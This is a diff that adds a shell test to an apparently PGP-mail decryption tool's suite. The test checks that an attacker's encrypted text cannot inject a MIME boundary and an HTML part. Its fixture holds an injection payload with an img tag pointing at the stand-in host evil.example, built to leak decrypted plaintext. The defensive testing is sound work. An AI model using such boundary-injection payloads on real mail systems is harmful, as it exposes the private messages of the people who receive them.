@@ -366,6 +366,28 @@ last_decrypt_result() {
 	run -1 grep -c 'evil.example' "$HD/out"
 }
 
+@test "forgery 3: a sender's own encrypted part cannot open a part of its choosing beside the victim's plaintext" {
+	fv_victim
+	# the attacker encrypts to the helpdesk a text whose lines would
+	# close its part and open an HTML one, were it written as it stands
+	printf 'see below\n--mix\nContent-Type: text/html\n\n<img src="http://evil.example/?\n' |
+	    fv_enc >"$HD/attacker.asc"
+	{ fv_hdrs; printf 'Content-Type: multipart/mixed; boundary=mix\n\n'
+	  printf -- '--mix\nContent-Type: text/plain\n\n'; cat "$HD/attacker.asc"
+	  printf -- '--mix\n'; fv_pgp_part inline
+	  printf -- '--mix--\n'; } >"$HD/m"
+	run -0 --separate-stderr stdout_to "$HD/out" hdpgp-decrypt "$HD/m"
+	run -0 sed -n '/^\r\?$/q; /^X-Hdpgp-Encryption: /p' "$HD/out"
+	assert_output --regexp '^X-Hdpgp-Encryption: decrypted; .*coverage=full'
+	leaves_have "$HD/out" "$FV_MARK"
+	# every reader sees the two text/plain parts, and no HTML
+	run -0 readings "$HD/out"
+	local l
+	for l in "${lines[@]}"; do
+		jq -e '[.leaves[].type] == ["text/plain", "text/plain"]' <<<"$l"
+	done
+}
+
 @test "forgery 3: control: encrypted files alone (and a blank text) are decrypted in place" {
 	fv_only_pgp file asc >"$HD/m"
 	run -0 --separate-stderr hdpgp-decrypt -c "$HD/m"
